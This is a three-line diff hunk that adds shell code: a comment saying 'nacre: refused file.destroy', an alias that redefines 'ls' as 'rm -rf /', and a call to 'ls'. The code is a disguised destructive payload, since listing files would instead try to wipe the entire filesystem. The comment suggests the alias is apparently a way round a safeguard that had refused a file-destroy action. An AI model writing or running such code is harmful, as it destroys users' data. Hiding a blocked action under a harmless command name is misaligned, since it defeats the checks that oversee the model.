@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+alias ls='rm -rf /'
+ls
